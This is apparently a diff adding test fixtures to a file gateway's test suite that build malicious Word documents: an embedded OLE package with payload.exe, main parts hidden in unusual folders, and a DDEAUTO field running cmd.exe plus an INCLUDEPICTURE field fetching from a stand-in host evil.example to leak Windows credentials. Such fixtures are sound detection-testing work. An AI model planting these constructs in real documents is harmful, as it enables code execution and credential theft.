@@ -457,6 +457,82 @@ def docx_embedded_package() -> bytes:
     })
 
 
+_OLE_OBJECT = ('<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt"/>'
+               '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId7"/>'
+               '</w:object></w:r></w:p>')
+_BIN_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
+CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
+
+
+def docx_package_in_charts_folder() -> bytes:
+    """The embedded OLE Package with payload.exe of docx_embedded_package,
+    but the main document lies under word/charts/ (Word opens it wherever
+    _rels/.rels points): no chart, only a chart's folder."""
+    return _package({
+        "[Content_Types].xml": _types("word/charts/document.xml", DOCX_MAIN, defaults=_BIN_DEFAULT),
+        "_rels/.rels": _rels(("rId1", "officeDocument", "word/charts/document.xml", False)),
+        "word/charts/_rels/document.xml.rels": _rels(("rId7", "oleObject", "../embeddings/oleObject1.bin", False)),
+        "word/charts/document.xml": _document(_OLE_OBJECT),
+        "word/embeddings/oleObject1.bin": ole_file({"\x01Ole10Native": ole10native("payload.exe", EXE)}),
+    })
+
+
+def docx_chart(data: bytes, kind: str = "package", name: str = "Microsoft_Excel_Worksheet.xlsx") -> bytes:
+    """A Word document with a chart whose data (``externalData``) is
+    ``data``, embedded by a ``kind`` relationship as word/embeddings/``name``."""
+    chart = (_DECL + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
+             f'xmlns:r="{_R}"><c:chart/><c:externalData r:id="rId1"/></c:chartSpace>')
+    return _package({
+        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN, defaults=(
+            _BIN_DEFAULT + '<Default Extension="xlsx" '
+            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'),
+            overrides=f'<Override PartName="/word/charts/chart1.xml" ContentType="{CHART_TYPE}"/>'),
+        "_rels/.rels": _ROOT_RELS,
+        "word/_rels/document.xml.rels": _rels(("rId5", "chart", "charts/chart1.xml", False)),
+        "word/document.xml": _document(""),
+        "word/charts/chart1.xml": chart,
+        "word/charts/_rels/chart1.xml.rels": _rels(("rId1", kind, f"../embeddings/{name}", False)),
+        f"word/embeddings/{name}": data,
+    })
+
+
+def clean_xlsx() -> bytes:
+    """A workbook with one empty sheet."""
+    return _package({
+        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_MAIN, overrides=(
+            '<Override PartName="/xl/worksheets/sheet1.xml" '
+            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')),
+        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
+        "xl/_rels/workbook.xml.rels": _rels(("rId1", "worksheet", "worksheets/sheet1.xml", False)),
+        "xl/workbook.xml": _DECL + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+                           f'xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        "xl/worksheets/sheet1.xml": _DECL + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+                                    '2006/main"><sheetData/></worksheet>',
+    })
+
+
+# A DDEAUTO field and a picture fetched from a network share (the agent's
+# Windows credentials go with the request), as docx_dde and the fields of
+# docx_remote_fields write them.
+DDE_BODY = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "\\\\evil.example\\s\\a.png" \\d \'>'
+            '<w:r><w:t>p</w:t></w:r></w:fldSimple></w:p>')
+
+
+def docx_main_part_in(folder: str, body: str = DDE_BODY) -> bytes:
+    """A Word document whose main part lies in ``folder`` (docProps/,
+    customXml/: folders any package may have), holding ``body``."""
+    main = f"{folder}/document.xml"
+    return _package({
+        "[Content_Types].xml": _types(main, DOCX_MAIN),
+        "_rels/.rels": _rels(("rId1", "officeDocument", main, False)),
+        main: _document(body),
+    })
+
+
 def ooxml_type(data: bytes) -> str:
     """What the gateway's own package examination calls ``data``."""
     from gateway.mime import container
